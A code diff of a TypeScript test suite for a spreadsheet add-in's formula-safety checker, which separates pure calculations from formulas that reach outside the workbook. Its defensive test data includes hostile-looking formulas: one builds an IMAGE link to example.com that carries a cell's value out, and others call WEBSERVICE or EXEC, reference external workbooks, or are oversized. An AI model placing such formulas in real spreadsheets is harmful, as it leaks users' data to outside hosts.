@@ -1,4 +1,4 @@
-import { isPlainCalculation, reachesOutside } from "../../src/host/formula-safety";
+import { isPlainCalculation, onlyCalculates } from "../../src/host/formula-safety";
 
 test.each([
   '=RENT.PRICE(A2,"studio")',
@@ -9,7 +9,7 @@ test.each([
   "=RENT.PROPERTY(#REF!,1)",
 ])("%s calculates alone", (formula) => {
   expect(isPlainCalculation(formula)).toBe(true);
-  expect(reachesOutside(formula)).toBe(false);
+  expect(onlyCalculates(formula)).toBe(true);
 });
 
 test.each([
@@ -26,30 +26,41 @@ test.each([
   '=IMAGE("https://example.com/"&RENT.PRICE(A2))',
 ])("%s reaches outside", (formula) => {
   expect(isPlainCalculation(formula)).toBe(false);
-  expect(reachesOutside(formula)).toBe(true);
+  for (const start of ["", " ", "+", "-"]) expect(onlyCalculates(start + formula)).toBe(false);
 });
 
 test.each([
-  "=SUM(A1:A9)",
-  "=RENT.PRICE(Subject)",
-  "=RENT.PRICE(Table1[address])",
-  "=RENT.PRICE(INDIRECT(A2))",
-  "=LAMBDA(x,RENT.PRICE(x))(A2)",
-  "=RENT.PRICE(OTHER.ADDIN(A2))",
-  'RENT.PRICE("a")',
-  '="RENT.PRICE(A2)"',
-])("%s is not written without a question, and may be the person's own", (formula) => {
+  ["=SUM(A1:A9)", true],
+  ["=RENT.PRICE(Table1[address])", true],
+  ["=Rents[@rent]/12+SUM(Rents[[#All],[a 'b]:[c]])", true],
+  ["=[@rent]*2", true],
+  ["+A1-B2", true],
+  ["=RENT.PRICE(Subject)", false],
+  ["=[Book2.xlsx]Sheet1!A2", false],
+  ["=SUM([Book2.xlsx]Sheet1!Table1[rent])", false],
+  ["=Book2.xlsx!Table1[rent]", false],
+  ["='[Book2.xlsx]Sheet1'!A2", false],
+  ["=[a]WEBSERVICE(A1)", false],
+  ['=Rents[a]&WEBSERVICE("https://example.com")', false],
+  ["@SUM(A1,EXEC(A2))", false],
+  ["=RENT.PRICE(INDIRECT(A2))", false],
+  ["=LAMBDA(x,RENT.PRICE(x))(A2)", false],
+  ["=RENT.PRICE(OTHER.ADDIN(A2))", false],
+  ["=" + "A1+".repeat(3_000) + "1", false],
+])("%s is not written as one of ours without a question; merely calculating: %p", (formula, merely) => {
   expect(isPlainCalculation(formula)).toBe(false);
-  expect(reachesOutside(formula)).toBe(false);
+  expect(onlyCalculates(formula)).toBe(merely);
 });
 
-test.each([1, true, null, "WEBSERVICE(A1)", "'=WEBSERVICE(A1)", "a|b"])("%s is no formula", (value) =>
-  expect(reachesOutside(value)).toBe(false),
+test.each([1, true, null, "WEBSERVICE(A1)", "'=WEBSERVICE(A1)", "a|b", 'RENT.PRICE("a")'])(
+  "%s is no formula",
+  (value) => expect(onlyCalculates(value)).toBe(true),
 );
 
 test("a formula that is longer than Excel's are is not looked at", () => {
   const sum = (terms: number): string => `=RENT.PRICE(A2)${"+1".repeat(terms)}`;
   expect(isPlainCalculation(sum(4_000))).toBe(true);
   for (const part of ["+1", "(", "'", '"', "[", "#A", " "])
-    expect(isPlainCalculation(`=RENT.PRICE(A2)${part.repeat(1_000_000)}`)).toBe(false);
+    for (const isSafe of [isPlainCalculation, onlyCalculates])
+      expect(isSafe(`=RENT.PRICE(A2)${part.repeat(1_000_000)}`)).toBe(false);
 });
